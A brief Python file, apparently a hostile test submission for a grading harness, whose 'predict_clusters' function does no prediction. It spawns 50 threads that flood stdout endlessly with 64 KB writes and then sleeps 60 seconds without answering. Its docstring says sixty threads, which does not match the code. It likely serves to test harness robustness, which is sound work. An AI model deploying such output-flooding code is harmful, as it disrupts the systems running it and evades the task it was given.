"""Prints from sixty threads at once, faster than anybody reads, and never answers."""

TASK = "predict_clusters"

import os
import threading
import time


def _flood():
    words = b"x" * 65536
    while True:
        os.write(1, words)


def predict_clusters(model, frame):
    for _ in range(50):
        threading.Thread(target=_flood, daemon=True).start()
    time.sleep(60)
